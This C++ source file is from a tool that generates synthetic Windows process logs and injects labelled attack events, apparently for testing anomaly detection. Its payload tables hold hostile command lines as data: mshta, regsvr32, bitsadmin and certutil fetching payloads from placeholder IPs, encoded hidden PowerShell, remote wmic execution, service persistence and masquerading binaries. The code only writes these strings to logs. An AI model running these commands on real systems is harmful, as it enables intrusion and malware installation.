// Copyright 2026 The scade Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     https://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include "scade/synth.h"

#include <algorithm>
#include <array>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <numeric>
#include <string>
#include <utility>

#include "scade/error.h"
#include "scade/random.h"

namespace scade {
namespace {

using nlohmann::json;

constexpr std::array<std::string_view, 15> kUserPool = {
    "svc_ops",   "svc_deploy", "svc_backup", "svc_monitor", "svc_sql",
    "adm_alice", "adm_bob",    "adm_carol",  "adm_dave",    "adm_erin",
    "adm_frank", "adm_grace",  "adm_heidi",  "adm_ivan",    "adm_judy"};

constexpr std::int64_t kMicrosPerDay = 86'400'000'000LL;

// Seed streams, kept apart so adding attacks never perturbs the baseline.
constexpr std::uint64_t kStreamBaseline = 1;
constexpr std::uint64_t kStreamAttack = 2;

struct AttackPayload {
  std::string_view parent;
  std::string_view process;
  std::string_view image;
  std::string_view command;
};

constexpr std::array<AttackPayload, 4> kRareBinary = {{
    {"cmd.exe", "mshta.exe", "c:\\windows\\system32\\mshta.exe",
     "mshta.exe http://198.51.100.23/payload.hta"},
    {"cmd.exe", "regsvr32.exe", "c:\\windows\\system32\\regsvr32.exe",
     "regsvr32.exe /s /n /u /i:http://198.51.100.9/file.sct scrobj.dll"},
    {"explorer.exe", "bitsadmin.exe", "c:\\windows\\system32\\bitsadmin.exe",
     "bitsadmin /transfer job1 /download /priority high "
     "http://203.0.113.5/x.exe c:\\users\\public\\x.exe"},
    {"cmd.exe", "rundll32.exe", "c:\\windows\\system32\\rundll32.exe",
     "rundll32.exe c:\\users\\public\\d.dll,dllregisterserver"},
}};

constexpr std::array<AttackPayload, 4> kParameterCombo = {{
    {"svchost.exe", "certutil.exe", "c:\\windows\\system32\\certutil.exe",
     "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe "
     "c:\\users\\public\\a.exe"},
    {"explorer.exe", "powershell.exe",
     "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
     "powershell.exe -nop -w hidden -enc jabzad0ansqa"},
    {"cmd.exe", "wmic.exe", "c:\\windows\\system32\\wbem\\wmic.exe",
     "wmic /node:10.0.0.5 process call create cmd.exe"},
    {"cmd.exe", "sc.exe", "c:\\windows\\system32\\sc.exe",
     "sc create updsvc binpath= c:\\users\\public\\u.exe start= auto"},
}};

constexpr std::array<AttackPayload, 4> kUnexpectedParent = {{
    {"w3wp.exe", "cmd.exe", "c:\\windows\\system32\\cmd.exe",
     "cmd.exe /c whoami /groups"},
    {"winword.exe", "powershell.exe",
     "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
     "powershell.exe -command get-service"},
    {"excel.exe", "cmd.exe", "c:\\windows\\system32\\cmd.exe",
     "cmd.exe /c dir c:\\users\\public"},
    {"outlook.exe", "cmd.exe", "c:\\windows\\system32\\cmd.exe",
     "cmd.exe /c net user"},
}};

constexpr std::array<AttackPayload, 4> kPathVariation = {{
    {"services.exe", "svch0st.exe", "c:\\windows\\temp\\svch0st.exe",
     "c:\\windows\\temp\\svch0st.exe -k netsvcs"},
    {"cmd.exe", "tasklist.exe", "c:\\users\\public\\tasklist.exe",
     "c:\\users\\public\\tasklist.exe /v"},
    {"taskeng.exe", "schtasks.exe", "c:\\programdata\\schtasks.exe",
     "c:\\programdata\\schtasks.exe /query /fo list"},
    {"cmd.exe", "ipconfig.exe", "c:\\perflogs\\ipconfig.exe",
     "c:\\perflogs\\ipconfig.exe /all"},
}};

constexpr std::array<std::pair<AttackKind, std::string_view>, 6> kKindNames = {{
    {AttackKind::kPathVariation, "path-variation"},
    {AttackKind::kUnusualParameterCombo, "unusual-parameter-combo"},
    {AttackKind::kWrongAsset, "wrong-asset"},
    {AttackKind::kUnexpectedParent, "unexpected-parent"},
    {AttackKind::kBurstExecutions, "burst-executions"},
    {AttackKind::kRareBinary, "rare-binary"},
}};

std::string Expand(std::string_view text, std::string_view asset,
                   std::string_view user) {
  std::string out;
  out.reserve(text.size());
  for (std::size_t i = 0; i < text.size();) {
    if (text.substr(i, 7) == "{asset}") {
      out.append(asset);
      i += 7;
    } else if (text.substr(i, 6) == "{user}") {
      out.append(user);
      i += 6;
    } else {
      out.push_back(text[i++]);
    }
  }
  return out;
}

ProcessEvent MakeEvent(const WorkloadSpec& spec, Timestamp ts,
                       std::string_view asset, std::string_view user,
                       std::string_view parent, std::string_view process,
                       std::string_view image, std::string_view command) {
  ProcessEvent e;
  e.timestamp = ts;
  e.event_id = kProcessCreationEventId;
  e.account_domain = spec.domain;
  e.account_name = std::string(user);
  e.device_id = std::string(asset);
  e.parent_process_name = std::string(parent);
  e.process_name = std::string(process);
  e.file_path = Expand(image, asset, user);
  e.command_line = Expand(command, asset, user);
  return e;
}

Timestamp RandomTimeOnDay(Day day, Rng& rng) {
  const auto seconds = static_cast<std::int64_t>(rng.Below(86'400));
  return Timestamp(day) + std::chrono::seconds(seconds);
}

// Largest-remainder apportionment of `total` over `weights`; ties go to the
// lower index so the result is deterministic.
std::vector<std::size_t> Apportion(std::size_t total,
                                   const std::vector<double>& weights) {
  const double sum = std::accumulate(weights.begin(), weights.end(), 0.0);
  std::vector<std::size_t> counts(weights.size());
  std::vector<std::pair<double, std::size_t>> remainders;
  std::size_t assigned = 0;
  for (std::size_t i = 0; i < weights.size(); ++i) {
    const double quota = static_cast<double>(total) * weights[i] / sum;
    counts[i] = static_cast<std::size_t>(std::floor(quota));
    assigned += counts[i];
    remainders.emplace_back(quota - std::floor(quota), i);
  }
  std::stable_sort(remainders.begin(), remainders.end(),
                   [](const auto& a, const auto& b) { return a.first > b.first; });
  for (std::size_t i = 0; assigned < total && i < remainders.size(); ++i) {
    ++counts[remainders[i].second];
    ++assigned;
  }
  return counts;
}

void SortAndNumber(std::vector<ProcessEvent>& events) {
  std::stable_sort(events.begin(), events.end(),
                   [](const ProcessEvent& a, const ProcessEvent& b) {
                     return a.timestamp < b.timestamp;
                   });
  for (std::size_t i = 0; i < events.size(); ++i) {
    events[i].ref = EventRef{i + 1};
  }
}

std::size_t AssetIndex(const WorkloadSpec& spec, std::string_view asset) {
  const auto names = spec.AssetNames();
  const auto it = std::find(names.begin(), names.end(), asset);
  if (it == names.end()) {
    throw ConfigError("attack template targets unknown asset '" +
                      std::string(asset) + "'");
  }
  return static_cast<std::size_t>(it - names.begin());
}

const AttackPayload& FromBank(std::span<const AttackPayload> bank, int variant) {
  const auto n = static_cast<int>(bank.size());
  return bank[static_cast<std::size_t>(((variant % n) + n) % n)];
}

// Attack events for one template (without refs).
std::vector<ProcessEvent> AttackEvents(const AttackTemplate& t,
                                       const WorkloadSpec& spec, Rng& rng) {
  const std::size_t asset_index = AssetIndex(spec, t.target_asset);
  if (t.injection_day < 0 || t.injection_day >= spec.days) {
    throw ConfigError("attack injection day " + std::to_string(t.injection_day) +
                      " is outside the workload's " + std::to_string(spec.days) +
                      " days");
  }
  if (t.count < 1) throw ConfigError("attack count must be >= 1");
  const auto users = spec.AssetUsers(asset_index);
  const std::string user =
      !t.target_user.empty() ? t.target_user : users[users.size() > 1 ? 1 : 0];
  const Day day = spec.StartDay() + std::chrono::days(t.injection_day);
  const std::string& asset = t.target_asset;
  const std::string role = spec.RoleOf(asset_index);

  auto from_template = [&](const CommandTemplate& c) {
    return AttackPayload{c.parent_process, c.process, c.image_path, c.command};
  };
  AttackPayload payload;
  switch (t.kind) {
    case AttackKind::kRareBinary:
      payload = FromBank(kRareBinary, t.variant);
      break;
    case AttackKind::kUnusualParameterCombo:
      payload = FromBank(kParameterCombo, t.variant);
      break;
    case AttackKind::kUnexpectedParent:
      payload = FromBank(kUnexpectedParent, t.variant);
      break;
    case AttackKind::kPathVariation:
      payload = FromBank(kPathVariation, t.variant);
      break;
    case AttackKind::kWrongAsset: {
      std::vector<AttackPayload> foreign;
      for (const auto& c : spec.baseline_commands) {
        if (!c.role.empty() && c.role != role) foreign.push_back(from_template(c));
      }
      if (foreign.empty()) {
        throw ConfigError("wrong-asset attack needs a baseline command from "
                          "another role than '" + role + "'");
      }
      payload = FromBank(foreign, t.variant);
      break;
    }
    case AttackKind::kBurstExecutions: {
      std::vector<AttackPayload> local;
      for (const auto& c : spec.baseline_commands) {
        if (c.role.empty() || c.role == role) local.push_back(from_template(c));
      }
      if (local.empty()) {
        throw ConfigError("burst attack needs a baseline command on '" + asset + "'");
      }
      payload = FromBank(local, t.variant);
      break;
    }
  }

  std::vector<ProcessEvent> out;
  const Timestamp start = RandomTimeOnDay(day, rng);
  for (int i = 0; i < t.count; ++i) {
    // A burst is packed into consecutive seconds; the day boundary is kept.
    Timestamp ts = start + std::chrono::seconds(i);
    if (ts >= Timestamp(day + std::chrono::days(1))) ts = RandomTimeOnDay(day, rng);
    out.push_back(MakeEvent(spec, ts, asset, user, payload.parent, payload.process,
                            payload.image, payload.command));
  }
  return out;
}

json ToJson(const CommandTemplate& c) {
  json j = {{"parent_process", c.parent_process},
            {"process", c.process},
            {"image_path", c.image_path},
            {"command", c.command},
            {"weight", c.weight}};
  if (!c.role.empty()) j["role"] = c.role;
  return j;
}

json ToJson(const DailyTask& d) {
  json j = {{"parent_process", d.parent_process},
            {"process", d.process},
            {"image_path", d.image_path},
            {"command", d.command},
            {"per_day", d.per_day}};
  if (!d.asset.empty()) j["asset"] = d.asset;
  if (!d.user.empty()) j["user"] = d.user;
  return j;
}

template <typename T>
T Get(const json& j, const char* key, T fallback) {
  const auto it = j.find(key);
  if (it == j.end()) return fallback;
  try {
    return it->get<T>();
  } catch (const json::exception&) {
    throw ConfigError(std::string("scenario field '") + key + "' has the wrong type");
  }
}

}  // namespace

void WorkloadSpec::Validate() const {
  if (n_assets == 0) throw ConfigError("workload needs at least one asset");
  if (n_users == 0) throw ConfigError("workload needs at least one user");
  if (days < 7) throw ConfigError("workload must span at least 7 days");
  if (roles.empty()) throw ConfigError("workload needs at least one role");
  if (users_per_asset == 0) throw ConfigError("users_per_asset must be >= 1");
  if (!(jitter >= 0.0 && jitter < 1.0)) throw ConfigError("jitter must be in [0, 1)");
  if (!ParseDay(start_date)) throw ConfigError("invalid start_date '" + start_date + "'");
  if (baseline_commands.empty()) throw ConfigError("workload has no baseline commands");
  for (const auto& c : baseline_commands) {
    if (!(c.weight > 0.0) || !std::isfinite(c.weight)) {
      throw ConfigError("baseline command '" + c.command + "' needs a positive weight");
    }
    if (c.command.empty() || c.process.empty()) {
      throw ConfigError("baseline command needs a process and a command line");
    }
    if (!c.role.empty() && std::find(roles.begin(), roles.end(), c.role) == roles.end()) {
      throw ConfigError("baseline command uses unknown role '" + c.role + "'");
    }
  }
  const auto assets = AssetNames();
  for (const auto& d : daily_tasks) {
    if (d.per_day < 1) throw ConfigError("daily task per_day must be >= 1");
    if (!d.asset.empty() && std::find(assets.begin(), assets.end(), d.asset) == assets.end()) {
      throw ConfigError("daily task targets unknown asset '" + d.asset + "'");
    }
  }
}

std::vector<std::string> WorkloadSpec::AssetNames() const {
  std::vector<std::string> names;
  names.reserve(n_assets);
  for (std::size_t i = 0; i < n_assets; ++i) {
    char suffix[32];
    std::snprintf(suffix, sizeof(suffix), "-srv-%02zu", i + 1);
    names.push_back(RoleOf(i) + suffix);
  }
  return names;
}

std::vector<std::string> WorkloadSpec::UserNames() const {
  std::vector<std::string> names;
  names.reserve(n_users);
  for (std::size_t i = 0; i < n_users; ++i) {
    names.push_back(i < kUserPool.size() ? std::string(kUserPool[i])
                                         : "usr_" + std::to_string(i + 1));
  }
  return names;
}

std::string WorkloadSpec::RoleOf(std::size_t asset_index) const {
  // Contiguous blocks of near-equal size.
  return roles[asset_index * roles.size() / n_assets];
}

std::vector<std::string> WorkloadSpec::AssetUsers(std::size_t asset_index) const {
  const auto all = UserNames();
  std::vector<std::string> out;
  for (std::size_t k = 0; k < std::min(users_per_asset, n_users); ++k) {
    out.push_back(all[(asset_index * users_per_asset + k) % n_users]);
  }
  return out;
}

Day WorkloadSpec::StartDay() const {
  const auto day = ParseDay(start_date);
  if (!day) throw ConfigError("invalid start_date '" + start_date + "'");
  return *day;
}

std::string_view ToString(AttackKind kind) {
  for (const auto& [k, name] : kKindNames) {
    if (k == kind) return name;
  }
  return "unknown";
}

std::optional<AttackKind> ParseAttackKind(std::string_view text) {
  for (const auto& [k, name] : kKindNames) {
    if (name == text) return k;
  }
  return std::nullopt;
}

const std::vector<std::string>& UnexpectedParentBank() {
  static const std::vector<std::string> bank = [] {
    std::vector<std::string> out;
    for (const auto& p : kUnexpectedParent) out.emplace_back(p.parent);
    return out;
  }();
  return bank;
}

Scenario DefaultScenario() {
  Scenario s;
  WorkloadSpec& w = s.workload;
  const std::string sys = "c:\\windows\\system32\\";
  const std::string ps = sys + "windowspowershell\\v1.0\\powershell.exe";
  w.baseline_commands = {
      {"services.exe", "svchost.exe", sys + "svchost.exe",
       "c:\\windows\\system32\\svchost.exe -k netsvcs", 30, ""},
      {"explorer.exe", "cmd.exe", sys + "cmd.exe", "cmd.exe /c dir c:\\windows\\temp", 6, ""},
      {"cmd.exe", "tasklist.exe", sys + "tasklist.exe", "tasklist /v", 8, ""},
      {"cmd.exe", "sc.exe", sys + "sc.exe", "sc query wuauserv", 6, ""},
      {"taskeng.exe", "schtasks.exe", sys + "schtasks.exe", "schtasks /query /fo list", 5, ""},
      {"cmd.exe", "ipconfig.exe", sys + "ipconfig.exe", "ipconfig /all", 5, ""},
      {"cmd.exe", "netstat.exe", sys + "netstat.exe", "netstat -ano", 4, ""},
      {"cmd.exe", "whoami.exe", sys + "whoami.exe", "whoami /groups", 3, ""},
      {"explorer.exe", "powershell.exe", ps,
       "powershell.exe -noprofile -command get-service", 6, ""},
      {"cmd.exe", "net.exe", sys + "net.exe", "net use", 3, ""},
      {"cmd.exe", "systeminfo.exe", sys + "systeminfo.exe", "systeminfo", 2, ""},
      {"cmd.exe", "wmic.exe", sys + "wbem\\wmic.exe", "wmic os get caption", 2, ""},
      {"svchost.exe", "certutil.exe", sys + "certutil.exe",
       "certutil.exe -verify c:\\certs\\root.cer", 2, ""},
      {"services.exe", "appcmd.exe", sys + "inetsrv\\appcmd.exe",
       "c:\\windows\\system32\\inetsrv\\appcmd.exe list sites", 8, "web"},
      {"cmd.exe", "iisreset.exe", sys + "iisreset.exe", "iisreset /status", 4, "web"},
      {"sqlagent.exe", "sqlcmd.exe", "c:\\program files\\sql\\sqlcmd.exe",
       "sqlcmd -s localhost -q \"select 1\"", 8, "db"},
      {"cmd.exe", "sqlcmd.exe", "c:\\program files\\sql\\sqlcmd.exe",
       "sqlcmd -s localhost -i c:\\sql\\maint\\reindex.sql", 2, "db"},
      {"services.exe", "robocopy.exe", sys + "robocopy.exe",
       "robocopy d:\\shares e:\\mirror /mir /r:1", 6, "file"},
      {"cmd.exe", "fsutil.exe", sys + "fsutil.exe", "fsutil volume diskfree d:", 3, "file"},
      {"cmd.exe", "msbuild.exe", "c:\\buildtools\\msbuild\\msbuild.exe",
       "msbuild.exe /m /p:configuration=release build.proj", 8, "build"},
      {"cmd.exe", "git.exe", "c:\\program files\\git\\bin\\git.exe",
       "git.exe fetch --all --prune", 4, "build"},
  };
  const auto assets = w.AssetNames();
  w.daily_tasks = {
      {"", "", "taskeng.exe", "powershell.exe", ps,
       "powershell.exe -file c:\\ops\\maint\\{asset}-rotate.ps1", 1},
      {assets[13], "adm_carol", "cmd.exe", "healthprobe.exe",
       "c:\\tools\\healthprobe.exe", std::string(kAdminSelfTestCommand), 1},
  };

  const std::array<std::pair<AttackKind, int>, 12> drill = {{
      {AttackKind::kRareBinary, 0},
      {AttackKind::kRareBinary, 1},
      {AttackKind::kRareBinary, 2},
      {AttackKind::kUnusualParameterCombo, 0},
      {AttackKind::kUnusualParameterCombo, 1},
      {AttackKind::kUnusualParameterCombo, 2},
      {AttackKind::kUnexpectedParent, 0},
      {AttackKind::kUnexpectedParent, 1},
      {AttackKind::kUnexpectedParent, 2},
      {AttackKind::kPathVariation, 0},
      {AttackKind::kPathVariation, 1},
      {AttackKind::kPathVariation, 2},
  }};
  for (std::size_t i = 0; i < drill.size(); ++i) {
    AttackTemplate t;
    t.kind = drill[i].first;
    t.variant = drill[i].second;
    t.injection_day = w.days - 2 + static_cast<int>(i % 2);
    t.target_asset = assets[(i * 7) % assets.size()];
    s.attacks.push_back(t);
  }
  return s;
}

nlohmann::json ToJson(const Scenario& scenario) {
  const WorkloadSpec& w = scenario.workload;
  json commands = json::array();
  for (const auto& c : w.baseline_commands) commands.push_back(ToJson(c));
  json tasks = json::array();
  for (const auto& d : w.daily_tasks) tasks.push_back(ToJson(d));
  json attacks = json::array();
  for (const auto& a : scenario.attacks) {
    json j = {{"kind", ToString(a.kind)},
              {"injection_day", a.injection_day},
              {"target_asset", a.target_asset},
              {"variant", a.variant},
              {"count", a.count}};
    if (!a.target_user.empty()) j["target_user"] = a.target_user;
    attacks.push_back(std::move(j));
  }
  return json{{"workload",
               {{"n_assets", w.n_assets},
                {"n_users", w.n_users},
                {"days", w.days},
                {"start_date", w.start_date},
                {"events_per_asset_day", w.events_per_asset_day},
                {"jitter", w.jitter},
                {"seed", w.seed},
                {"domain", w.domain},
                {"roles", w.roles},
                {"users_per_asset", w.users_per_asset},
                {"baseline_commands", std::move(commands)},
                {"daily_tasks", std::move(tasks)}}},
              {"attacks", std::move(attacks)}};
}

Scenario ScenarioFromJson(const nlohmann::json& j) {
  if (!j.is_object()) throw ConfigError("scenario must be a JSON object");
  Scenario s;
  const json w = j.value("workload", json::object());
  WorkloadSpec& spec = s.workload;
  spec.n_assets = Get(w, "n_assets", spec.n_assets);
  spec.n_users = Get(w, "n_users", spec.n_users);
  spec.days = Get(w, "days", spec.days);
  spec.start_date = Get(w, "start_date", spec.start_date);
  spec.events_per_asset_day = Get(w, "events_per_asset_day", spec.events_per_asset_day);
  spec.jitter = Get(w, "jitter", spec.jitter);
  spec.seed = Get(w, "seed", spec.seed);
  spec.domain = Get(w, "domain", spec.domain);
  spec.roles = Get(w, "roles", spec.roles);
  spec.users_per_asset = Get(w, "users_per_asset", spec.users_per_asset);
  for (const auto& c : w.value("baseline_commands", json::array())) {
    CommandTemplate t;
    t.parent_process = Get<std::string>(c, "parent_process", "");
    t.process = Get<std::string>(c, "process", "");
    t.image_path = Get<std::string>(c, "image_path", "");
    t.command = Get<std::string>(c, "command", "");
    t.weight = Get(c, "weight", 1.0);
    t.role = Get<std::string>(c, "role", "");
    spec.baseline_commands.push_back(std::move(t));
  }
  for (const auto& d : w.value("daily_tasks", json::array())) {
    DailyTask t;
    t.asset = Get<std::string>(d, "asset", "");
    t.user = Get<std::string>(d, "user", "");
    t.parent_process = Get<std::string>(d, "parent_process", "");
    t.process = Get<std::string>(d, "process", "");
    t.image_path = Get<std::string>(d, "image_path", "");
    t.command = Get<std::string>(d, "command", "");
    t.per_day = Get(d, "per_day", 1);
    spec.daily_tasks.push_back(std::move(t));
  }
  for (const auto& a : j.value("attacks", json::array())) {
    AttackTemplate t;
    const auto kind_name = Get<std::string>(a, "kind", "");
    const auto kind = ParseAttackKind(kind_name);
    if (!kind) throw ConfigError("unknown attack kind '" + kind_name + "'");
    t.kind = *kind;
    t.injection_day = Get(a, "injection_day", 0);
    t.target_asset = Get<std::string>(a, "target_asset", "");
    t.target_user = Get<std::string>(a, "target_user", "");
    t.variant = Get(a, "variant", 0);
    t.count = Get(a, "count", 1);
    s.attacks.push_back(std::move(t));
  }
  return s;
}

std::vector<ProcessEvent> GenerateWorkload(const WorkloadSpec& spec) {
  spec.Validate();
  const auto assets = spec.AssetNames();
  const Day start = spec.StartDay();
  std::vector<ProcessEvent> events;
  events.reserve(assets.size() * static_cast<std::size_t>(spec.days) *
                 (spec.events_per_asset_day + spec.daily_tasks.size()));

  for (std::size_t a = 0; a < assets.size(); ++a) {
    const std::string& asset = assets[a];
    const std::string role = spec.RoleOf(a);
    const auto users = spec.AssetUsers(a);
    std::vector<const CommandTemplate*> templates;
    for (const auto& c : spec.baseline_commands) {
      if (c.role.empty() || c.role == role) templates.push_back(&c);
    }
    for (int d = 0; d < spec.days; ++d) {
      const Day day = start + std::chrono::days(d);
      Rng rng(DeriveSeed(DeriveSeed(spec.seed, kStreamBaseline),
                         a * 100'003 + static_cast<std::size_t>(d)));
      const double total_noise = 1.0 + rng.Uniform(-spec.jitter, spec.jitter);
      const auto total = static_cast<std::size_t>(
          std::llround(static_cast<double>(spec.events_per_asset_day) * total_noise));
      std::vector<double> weights;
      for (const auto* t : templates) {
        weights.push_back(t->weight * (1.0 + rng.Uniform(-spec.jitter, spec.jitter)));
      }
      const auto counts = Apportion(total, weights);
      for (std::size_t t = 0; t < templates.size(); ++t) {
        const auto& c = *templates[t];
        for (std::size_t i = 0; i < counts[t]; ++i) {
          const auto& user = users[rng.Below(users.size())];
          events.push_back(MakeEvent(spec, RandomTimeOnDay(day, rng), asset, user,
                                     c.parent_process, c.process, c.image_path,
                                     c.command));
        }
      }
      for (const auto& task : spec.daily_tasks) {
        if (!task.asset.empty() && task.asset != asset) continue;
        const std::string& user = task.user.empty() ? users.front() : task.user;
        for (int i = 0; i < task.per_day; ++i) {
          events.push_back(MakeEvent(spec, RandomTimeOnDay(day, rng), asset, user,
                                     task.parent_process, task.process,
                                     task.image_path, task.command));
        }
      }
    }
  }
  SortAndNumber(events);
  return events;
}

InjectedLog InjectAttacks(std::span<const ProcessEvent> log,
                          std::span<const AttackTemplate> templates,
                          const WorkloadSpec& spec) {
  std::vector<ProcessEvent> events(log.begin(), log.end());
  std::vector<std::pair<std::size_t, AttackKind>> injected;
  for (std::size_t i = 0; i < templates.size(); ++i) {
    Rng rng(DeriveSeed(DeriveSeed(spec.seed, kStreamAttack), i));
    for (auto& e : AttackEvents(templates[i], spec, rng)) {
      injected.emplace_back(events.size(), templates[i].kind);
      events.push_back(std::move(e));
    }
  }

  std::vector<std::size_t> order(events.size());
  std::iota(order.begin(), order.end(), 0);
  std::stable_sort(order.begin(), order.end(), [&](std::size_t a, std::size_t b) {
    return events[a].timestamp < events[b].timestamp;
  });
  std::vector<std::size_t> position(events.size());
  InjectedLog out;
  out.events.reserve(events.size());
  for (std::size_t i = 0; i < order.size(); ++i) {
    position[order[i]] = i;
    out.events.push_back(std::move(events[order[i]]));
    out.events.back().ref = EventRef{i + 1};
  }
  for (const auto& [index, kind] : injected) {
    out.truth.push_back({EventRef{position[index] + 1}, kind});
  }
  std::sort(out.truth.begin(), out.truth.end(),
            [](const auto& a, const auto& b) { return a.event_ref < b.event_ref; });
  return out;
}

InjectedLog Simulate(const Scenario& scenario) {
  const auto baseline = GenerateWorkload(scenario.workload);
  return InjectAttacks(baseline, scenario.attacks, scenario.workload);
}

void WriteEventsJsonl(std::ostream& out, std::span<const ProcessEvent> events) {
  for (const auto& e : events) {
    const json j = {{"timestamp", FormatTimestamp(e.timestamp)},
                    {"event_id", e.event_id},
                    {"account_domain", e.account_domain},
                    {"account_name", e.account_name},
                    {"device_id", e.device_id},
                    {"parent_process_name", e.parent_process_name},
                    {"process_name", e.process_name},
                    {"command_line", e.command_line},
                    {"file_path", e.file_path}};
    out << j.dump() << '\n';
  }
}

void WriteTruthJsonl(std::ostream& out, std::span<const GroundTruthEntry> truth) {
  for (const auto& t : truth) {
    out << json{{"event_ref", t.event_ref.value}, {"kind", ToString(t.kind)}}.dump()
        << '\n';
  }
}

std::vector<GroundTruthEntry> ReadTruthJsonl(std::istream& in) {
  std::vector<GroundTruthEntry> out;
  std::string line;
  std::size_t line_no = 0;
  while (std::getline(in, line)) {
    ++line_no;
    if (line.find_first_not_of(" \t\r") == std::string::npos) continue;
    const json j = json::parse(line, nullptr, false);
    const auto where = "ground truth line " + std::to_string(line_no);
    if (!j.is_object() || !j.contains("event_ref") ||
        !j["event_ref"].is_number_unsigned()) {
      throw DataError(where + ": expected {\"event_ref\": <positive integer>}");
    }
    GroundTruthEntry entry;
    entry.event_ref = EventRef{j["event_ref"].get<std::uint64_t>()};
    if (const auto it = j.find("kind"); it != j.end() && it->is_string()) {
      const auto kind = ParseAttackKind(it->get<std::string>());
      if (!kind) throw DataError(where + ": unknown attack kind");
      entry.kind = *kind;
    }
    out.push_back(entry);
  }
  return out;
}

}  // namespace scade
